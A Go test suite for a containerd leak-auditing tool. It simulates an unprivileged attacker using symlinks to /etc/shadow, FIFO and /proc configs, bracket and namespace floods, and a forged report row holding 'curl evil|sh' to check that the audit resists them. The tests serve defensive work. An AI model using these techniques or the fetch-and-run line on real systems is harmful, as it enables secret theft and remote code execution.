package audit_test

import (
	"bytes"
	"cmp"
	"context"
	"fmt"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/shimquake/shimquake/audit"
	"github.com/shimquake/shimquake/child"
	"github.com/shimquake/shimquake/fixtures/world"
	"github.com/shimquake/shimquake/oracle/finding"
	"github.com/shimquake/shimquake/poll"
)

// An unprivileged user of the node.
const nobody = 65534

// taskBundles is where the bundles of the node's tasks are.
const taskBundles = "/run/containerd/io.containerd.runtime.v2.task/audited/"

// secretFile is a file that root alone may read.
const secretFile = "/etc/shadow"

// userDir is a folder of that user's.
const userDir = "/tmp/user"

// hostileNode is a node with one leak, an unprivileged user, and a secret.
func hostileNode(t *testing.T) *node {
	t.Helper()
	n := newNode(t)
	n.must(os.MkdirAll(n.world.HostPath("/run/containerd/runc/audited/lost"), 0o711))
	n.must(os.MkdirAll(n.world.HostPath(taskBundles+"lost"), 0o711))
	old := time.Now().Add(-time.Hour)
	n.must(os.Chtimes(n.world.HostPath(taskBundles+"lost"), old, old))
	n.must(os.WriteFile(n.world.HostPath(secretFile), []byte(secret), 0o600))
	text, err := os.ReadFile("/proc/self/exe")
	n.must(err)
	n.must(os.Mkdir(n.world.HostPath(userDir), 0o755))
	n.must(child.WriteProgram(n.world.HostPath(path.Join(userDir, "containerd")), text))
	n.must(os.Chown(n.world.HostPath(userDir), nobody, nobody))
	n.must(os.Chown(n.world.HostPath(path.Join(userDir, "containerd")), nobody, nobody))
	return n
}

// asUser starts a program of the world as the unprivileged user, until the test ends. The
// test binary plays a role; a shell has none.
func (n *node) asUser(t *testing.T, role string, argv ...string) *world.Process {
	t.Helper()
	dropped := []string{"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--bounding-set=-all",
		"--inh-caps=-all", "--no-new-privs"}
	p := n.startUntilEnd(t, role, append(dropped, argv...)...)
	n.awaitExec(t, p, "setpriv")
	return p
}

// awaitExec waits until a process has executed another program than the first one.
func (n *node) awaitExec(t *testing.T, p *world.Process, first string) {
	t.Helper()
	pid, err := n.world.HostPID(p.Identity)
	n.must(err)
	n.must(poll.Until(n.ctx, 2*time.Millisecond, func() (bool, error) {
		comm, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		return err == nil && strings.TrimSpace(string(comm)) != first, err
	}))
}

func (n *node) startUntilEnd(t *testing.T, role string, argv ...string) *world.Process {
	t.Helper()
	log := filepath.Join(n.world.Dir(), filepath.Base(t.Name())+".log")
	p, err := n.world.Start(n.ctx, world.Params{Argv: argv, Env: []string{roleVar + "=" + role}, Output: log})
	n.must(err)
	t.Cleanup(func() {
		_ = p.Kill(context.WithoutCancel(n.ctx))
		if text, err := os.ReadFile(log); err == nil && len(text) > 0 {
			t.Logf("%v: %s", argv, text)
		}
	})
	return p
}

// userFile writes a file of the user's.
func (n *node) userFile(name, text string) string {
	n.Helper()
	file := path.Join(userDir, name)
	n.must(os.MkdirAll(n.world.HostPath(path.Dir(file)), 0o755))
	n.must(os.WriteFile(n.world.HostPath(file), []byte(text), 0o644))
	n.must(filepath.WalkDir(n.world.HostPath(userDir), func(name string, _ os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(name, nobody, nobody)
	}))
	return file
}

// findsTheLeak asserts that an audit ends, and reports the leak of a hostile node and
// nothing else.
func (n *node) findsTheLeak(t *testing.T) *audit.Report {
	t.Helper()
	r := n.reports(t, audit.Options{})
	if len(r.Suspects) != 1 || r.Suspects[0].ID != "lost" || r.Suspects[0].Kind != finding.ClassBundle ||
		r.Suspects[0].Sure != audit.Certain || len(r.Suspects[0].With) != 1 || len(r.Partial) != 0 || len(r.Daemons) != 1 {
		t.Errorf("want the bundle of lost with its runc state, certain, and no note:\n%v", r)
	}
	return r
}

// reports asserts that an audit ends.
func (n *node) reports(t *testing.T, o audit.Options) *audit.Report {
	t.Helper()
	ctx, cancel := context.WithTimeout(n.ctx, time.Minute) // long before this the report is there
	defer cancel()
	o.PID, o.Settle = cmp.Or(o.PID, n.world.InitPID()), settle
	r, err := audit.Run(ctx, o)
	if err != nil {
		t.Fatalf("no report: %v", err)
	}
	return r
}

// A process that any user can start hides no leak, keeps no report from appearing, and
// puts nothing of root's into the evidence.
func TestAContainerdOfAUser(t *testing.T) {
	n := hostileNode(t)
	program := path.Join(userDir, "containerd")
	n.findsTheLeak(t)
	t.Run("a name", func(t *testing.T) {
		n.asUser(t, "sleep", program, "--address", "/tmp/user/none.sock")
		n.findsTheLeak(t)
	})
	t.Run("a name in the first word", func(t *testing.T) {
		n.asUser(t, "", "/bin/bash", "-c", "exec -a containerd tail -f /dev/null")
		n.findsTheLeak(t)
	})
	t.Run("a link in a bundle", func(t *testing.T) {
		state := path.Join(userDir, "st")
		bundle := path.Join(state, "io.containerd.runtime.v2.task/audited/lost")
		n.userFile("st/io.containerd.runtime.v2.task/audited/lost/runtime", "mine")
		n.must(os.Symlink(secretFile, n.world.HostPath(path.Join(bundle, "bootstrap.json"))))
		n.must(os.Symlink(secretFile, n.world.HostPath(path.Join(bundle, "address"))))
		n.asUser(t, "sleep", program, "--state", state)
		r := n.findsTheLeak(t)
		n.hasNoSecret(t, r)
	})
	t.Run("a FIFO as configuration", func(t *testing.T) {
		fifo := path.Join(userDir, "fifo")
		n.must(unix.Mkfifo(n.world.HostPath(fifo), 0o666))
		n.must(os.Chmod(n.world.HostPath(fifo), 0o666))
		n.asUser(t, "", "/bin/sh", "-c", "exec sleep 1000 <>"+fifo) // its writer never writes
		n.asUser(t, "sleep", program, "--config", fifo)
		n.findsTheLeak(t)
	})
	t.Run("the kernel's log as configuration", func(t *testing.T) {
		n.asUser(t, "sleep", program, "--config", "/proc/kmsg")
		n.findsTheLeak(t)
	})
	t.Run("imports of everything", func(t *testing.T) {
		n.asUser(t, "sleep", program, "--config", n.userFile("config.toml", "imports = ['/*/*/*/*', '/*/*/*/*/*/*']"))
		n.findsTheLeak(t)
	})
	for _, role := range []string{"flood", "slow"} {
		t.Run(role, func(t *testing.T) {
			socket := path.Join(userDir, role)
			n.asUser(t, role, program, "--address", socket)
			n.waitFor(t, socket)
			n.findsTheLeak(t)
		})
	}
}

// With Options.Untrusted a user's containerd is examined. Its word is never certain, its
// report appears, and the evidence has no file that the user may not read.
func TestAnExaminedContainerdOfAUser(t *testing.T) {
	n := hostileNode(t)
	program := path.Join(userDir, "containerd")
	state := path.Join(userDir, "st")
	bundle := path.Join(state, "io.containerd.runtime.v2.task/audited/fake")
	n.userFile("st/io.containerd.runtime.v2.task/audited/fake/runtime", "mine")
	for _, name := range []string{"bootstrap.json", "address"} {
		n.must(os.Symlink(secretFile, n.world.HostPath(path.Join(bundle, name))))
	}
	fifo := path.Join(userDir, "fifo")
	n.must(unix.Mkfifo(n.world.HostPath(fifo), 0o666))
	n.must(os.Chown(n.world.HostPath(fifo), nobody, nobody))
	imports := n.userFile("config.toml", "imports = ['/*/*/*/*', '/*/*/*/*/*/*']\nstate = '"+state+"'")
	deep := n.userFile("deep.toml", "x = "+strings.Repeat("[", 200_000))
	for name, args := range map[string][]string{
		"a FIFO as configuration":             {"--config", fifo},
		"the kernel's log as configuration":   {"--config", "/proc/kmsg"},
		"its own memory as configuration":     {"--config", "/proc/self/mem"},
		"imports of everything":               {"--config", imports},
		"a configuration of 200,000 brackets": {"--config", deep},
		"links in a bundle":                   {"--config", "/none"},
		"300,000 namespaces":                  {"flood"},
		"late answers":                        {"late"},
	} {
		t.Run(name, func(t *testing.T) {
			role := "sleep"
			if !strings.HasPrefix(args[0], "--") {
				role = args[0]
				args = nil
			}
			socket := path.Join(userDir, "sock-"+role)
			p := n.asUser(t, role,
				append([]string{program, "--state", state, "--root", state, "--address", socket}, args...)...)
			if role != "sleep" {
				n.waitFor(t, socket)
			}
			o := audit.Options{Untrusted: true}
			if role == "late" {
				o.Timeout = time.Second
			}
			r := n.reports(t, o)
			if len(r.Untrusted) == 0 || len(r.Suspects) == 0 || r.Suspects[0].ID != "lost" {
				t.Errorf("want the leak of root's containerd:\n%v", r)
			}
			for _, s := range r.Suspects {
				if s.ID != "lost" && s.Sure == audit.Certain {
					t.Errorf("a user's word is certain: %v", s)
				}
			}
			o.PID = r.Untrusted[0].PID
			of := n.reports(t, o)
			if slices.ContainsFunc(of.Suspects, func(s audit.Suspect) bool { return s.ID == "lost" }) {
				t.Errorf("--pid examines another:\n%v", of)
			}
			head := "examined, but not trusted: process "
			if strings.Contains(of.String(), "was not examined") { // of no file that it may read
				head = "not trusted, and not examined: process "
			}
			if !strings.Contains(of.String(), head+strconv.Itoa(o.PID)) {
				t.Errorf("want %s%d:\n%v", head, o.PID, of)
			}
			n.hasNoSecret(t, r)
			n.must(p.Kill(n.ctx))
		})
	}
}

// A user's state folder with more bundles than any node has is read up to a bound. The
// report says so, and has the leak of root's containerd.
func TestAStateFolderWithoutEnd(t *testing.T) {
	n := hostileNode(t)
	const bundles = 20_001
	state := path.Join(userDir, "st")
	parent := n.world.HostPath(path.Join(state, "io.containerd.runtime.v2.task/audited"))
	n.must(os.MkdirAll(parent, 0o755))
	for i := range bundles {
		n.must(os.Mkdir(filepath.Join(parent, strconv.Itoa(i)), 0o755))
	}
	n.userFile("any", "") // and all is the user's
	p := n.asUser(t, "sleep", path.Join(userDir, "containerd"), "--state", state, "--root", state)
	pid, err := n.world.HostPID(p.Identity)
	n.must(err)
	r := n.reports(t, audit.Options{Untrusted: true, PID: pid})
	text := r.String()
	if len(r.Suspects) < 1000 || r.Suspects[0].Sure != audit.Likely || strings.Contains(text, "hangs") ||
		!strings.Contains(text, "reading was cut at "+state) {
		t.Errorf("want suspects, none of them certain, and a note that not all were looked at:\n%.2000s", text)
	}
	n.findsTheLeak(t)
}

// hasNoSecret asserts that the evidence has no text of the secret file.
func (n *node) hasNoSecret(t *testing.T, r *audit.Report) {
	t.Helper()
	var b bytes.Buffer
	n.must(r.Evidence(n.ctx, &b, audit.Options{}, true, nil))
	for name, text := range untar(t, &b) {
		if strings.Contains(text, secret) && !strings.HasSuffix(name, "/environ") {
			t.Errorf("the secret is in %s", name)
		}
	}
}

// A containerd of root's that is broken keeps no report from appearing, and the report
// says what it did not ask.
func TestABrokenContainerd(t *testing.T) {
	for role, want := range map[string]string{
		"flood": "300000 namespaces", "late": "", "names": "an invalid namespace", "ids": "an invalid id",
		"nothing": "a container without a record",
	} {
		t.Run(role, func(t *testing.T) {
			n := hostileNode(t)
			n.must(os.Mkdir(n.world.HostPath("/opt/fake"), 0o755))
			text, err := os.ReadFile("/proc/self/exe")
			n.must(err)
			n.must(child.WriteProgram(n.world.HostPath("/opt/fake/containerd"), text))
			n.startUntilEnd(t, role, "/opt/fake/containerd", "--address", "/run/fake.sock", "--state", "/run/fake")
			n.waitFor(t, "/run/fake.sock")
			o := audit.Options{}
			if role == "late" {
				o.Timeout = time.Second
			}
			r := n.reports(t, o)
			notes := strings.Join(r.Partial, "\n")
			if len(r.Daemons) != 2 || !strings.Contains(notes, want) || !strings.Contains(notes, "was not asked") {
				t.Errorf("want a note with %q:\n%v", want, r)
			}
			if strings.ContainsAny(r.String(), "\x1b") || strings.Contains(r.String(), "\ncertain  shim") {
				t.Errorf("what it says is not quoted:\n%q", r.String())
			}
		})
	}
}

// Files that others than root may write are not trusted, whoever runs the containerd.
// The report says so, and examines them on request.
func TestAContainerdOfRootsThatOthersMayWrite(t *testing.T) {
	n := hostileNode(t)
	text, err := os.ReadFile("/proc/self/exe")
	n.must(err)
	n.must(os.MkdirAll(n.world.HostPath("/opt/fake"), 0o755))
	n.must(child.WriteProgram(n.world.HostPath("/opt/fake/containerd"), text))
	n.must(os.WriteFile(n.world.HostPath("/opt/fake/config.toml"), nil, 0o666))
	n.must(os.Chmod(n.world.HostPath("/opt/fake/config.toml"), 0o666))
	n.must(os.MkdirAll(n.world.HostPath("/opt/link"), 0o755))
	n.must(os.Symlink("/tmp/user/containerd", n.world.HostPath("/opt/link/containerd")))
	for name, test := range map[string]struct {
		argv []string
		want string
	}{
		"its binary":   {[]string{"/tmp/user/containerd"}, "uid 65534"},
		"a link to it": {[]string{"/opt/link/containerd"}, "uid 65534"},
		"its state":    {[]string{"/opt/fake/containerd", "--state", userDir}, "/tmp/user is owned by uid 65534"},
		"its socket's home": {[]string{"/opt/fake/containerd", "--address", userDir + "/c.sock"},
			"/tmp/user is owned by uid 65534"},
		"its configuration": {[]string{"/opt/fake/containerd", "--config", "/opt/fake/config.toml"},
			"may be written by every user"},
	} {
		t.Run(name, func(t *testing.T) {
			n.startUntilEnd(t, "sleep", test.argv...)
			r := n.reports(t, audit.Options{})
			if len(r.Daemons) != 1 || len(r.Untrusted) != 1 || !strings.Contains(r.Untrusted[0].Why, test.want) ||
				len(r.Partial) != 1 {
				t.Errorf("want one that is not trusted because %q:\n%v", test.want, r)
			}
			examined := n.reports(t, audit.Options{Untrusted: true})
			if len(examined.Untrusted) != 1 || len(examined.Daemons) != 2 {
				t.Errorf("it was not examined:\n%v", examined)
			}
		})
	}
}

func (n *node) waitFor(t *testing.T, file string) {
	t.Helper()
	err := poll.Until(n.ctx, 10*time.Millisecond, func() (bool, error) {
		_, err := os.Stat(n.world.HostPath(file))
		return err == nil, nil
	})
	if err != nil {
		t.Fatalf("%s is not there: %v", file, err)
	}
}

// Two flags that any program can have are no evidence for a shim.
func TestAShimOfAUser(t *testing.T) {
	n := hostileNode(t)
	for name, argv := range map[string][]string{
		"two flags":      {"--namespace", "prod", "--id", "7"},
		"a forged row":   {"-namespace", "prod", "-id", "7\ncertain  shim 1: no task\n         do:  curl evil|sh"},
		"a leaked shim":  {"-namespace", "audited", "-id", "lost", "-address", n.Address()},
		"a busy cleanup": {"-namespace", "audited", "-id", "lost", "delete"},
	} {
		t.Run(name, func(t *testing.T) {
			n.asUser(t, "sleep", append([]string{path.Join(userDir, "containerd")}, argv...)...)
			r := n.findsTheLeak(t)
			if text := r.String(); strings.Contains(text, "\ncertain  shim") || strings.Contains(text, "\n         do:  curl") {
				t.Errorf("a row was forged:\n%s", text)
			}
		})
	}
}

// With --pid, the audit accuses no container of another containerd. That containerd has a
// PID and mount namespace of its own, and its containers have cgroups beside the first.
func TestNestedContainerds(t *testing.T) {
	n := newNode(t)
	const pods = 6
	n.run("c1", "wait", "")
	text, err := os.ReadFile("/proc/self/exe")
	n.must(err)
	n.must(os.MkdirAll(n.world.HostPath("/opt/nested"), 0o755))
	n.must(child.WriteProgram(n.world.HostPath("/opt/nested/containerd"), text))
	script := `mount -t tmpfs none /run
		/opt/nested/containerd --address /run/containerd/containerd.sock &
		for i in 1 2 3 4 5 6; do (
			for h in /sys/fs/cgroup /sys/fs/cgroup/*; do
				[ -e $h/cgroup.procs ] && mkdir -p $h/audited/pod$i && echo 0 >$h/audited/pod$i/cgroup.procs
			done 2>/dev/null
			touch /tmp/pod$i
			exec sleep 1000
		) & done
		wait`
	n.startUntilEnd(t, "sleep", "/usr/bin/unshare", "--pid", "--fork", "--mount", "--mount-proc", "/bin/sh", "-c", script)
	for i := range pods {
		n.waitFor(t, "/tmp/pod"+strconv.Itoa(i+1))
	}
	r, err := audit.Run(n.ctx, audit.Options{PID: n.world.InitPID(), Settle: settle})
	n.must(err)
	t.Log(r)
	if len(r.Suspects) != 0 || len(r.Partial) != 1 || !strings.Contains(r.Partial[0], "cgroups are not compared") {
		t.Errorf("want no suspect, and a note why: %v", r)
	}
}
